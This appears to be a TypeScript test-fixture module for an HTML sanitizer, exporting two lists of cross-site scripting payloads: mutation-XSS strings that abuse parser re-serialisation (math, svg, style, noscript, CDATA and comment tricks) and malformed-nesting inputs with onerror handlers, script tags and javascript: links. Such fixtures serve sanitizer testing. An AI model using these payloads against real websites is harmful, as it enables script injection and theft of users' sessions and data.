import { ACT, of, type Payload } from './payload.ts';

const IMG = `<img src=x onerror=${ACT}>`;

/** Means one thing when it is read the first time and another when what was understood is written and read again. */
export const MUTATIONS: readonly Payload[] = of('mutation', [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${IMG}">`,
  `<math><mtext><table><mglyph><style><math><img title="</style>${IMG}">`,
  `<svg><style><img title="</style>${IMG}"></style></svg>`,
  `<svg></p><style><a id="</style>${IMG}">`,
  `<math></p><style><!--</style>${IMG}--></style></math>`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMG}`,
  `<noscript><p title="</noscript>${IMG}">`,
  `<noembed><p title="</noembed>${IMG}">`,
  `<noframes><p title="</noframes>${IMG}">`,
  `<xmp><p title="</xmp>${IMG}">`,
  `<textarea><p title="</textarea>${IMG}">`,
  `<title><p title="</title>${IMG}">`,
  `<iframe><p title="</iframe>${IMG}">`,
  `<template><style><p title="</style>${IMG}"></template>`,
  `<select><template><style><!--</style><a rel="--></style></template></select>${IMG}">`,
  `<table><caption><svg><title><style><a title="</style></title>${IMG}">`,
  `<svg><foreignObject><math><mi><b><style><a title="</style>${IMG}">`,
  `<a><table><td><a href=javascript:${ACT}>Les mer</a></td></table></a>`,
  `<p><button><p><svg><p><style><g title="</style>${IMG}">`,
  `<listing>&lt;img src=x onerror=${ACT}&gt;</listing>${IMG}`,
  `<p title="\`\`onmouseover=${ACT}">Hei`,
  `<b><math><b><annotation-xml encoding=text/html><b><style><b title="</style>${IMG}">`,
  `<!--<img src="--><img src=x onerror=${ACT}//">`,
  `<!--!> ${IMG} -->${IMG}`,
  `<? <p title="?>${IMG}">`,
  `<![CDATA[<p title="]]>${IMG}">`,
  `<svg><![CDATA[</svg>${IMG}]]>`,
  `<math><!--</math>${IMG}--><p title="</math>${IMG}">`,
]);

/** Elements that contain, close and open each other where they may not. */
export const NESTINGS: readonly Payload[] = of('nesting', [
  `<template>${IMG}</template>`,
  `<template shadowrootmode=open>${IMG}</template>`,
  `<div><template shadowrootmode=open><script>${ACT}</script></template></div>`,
  `<div><div><div></section></article>${IMG}`,
  `</div></div></main></body></html>${IMG}`,
  `<table><tr>${IMG}<td><script>${ACT}</script></table>`,
  `<select><option>${IMG}</select>${IMG}`,
  `<b><p><i></b>${IMG}</p></i>`,
  `<ul><li><ul><li>${IMG}</ul></ol></ul>`,
  `<a href=https://elsewhere.invalid><a href=javascript:${ACT}>Les mer</a></a>`,
  `<h2><h3><script>${ACT}</script></h2></h3>`,
  `${'<b>'.repeat(600)}${IMG}`,
  `${'<div>'.repeat(600)}<svg><style><p title="</style>${IMG}">`,
  `<slot>${IMG}</slot>`,
  `<custom-element is=x-y>${IMG}</custom-element>`,
  `<xml><i><script>${ACT}</script></i></xml>`,
  `<plaintext>${IMG}`,
  `<ruby><rt>${IMG}<rp><script>${ACT}</script></ruby>`,
]);
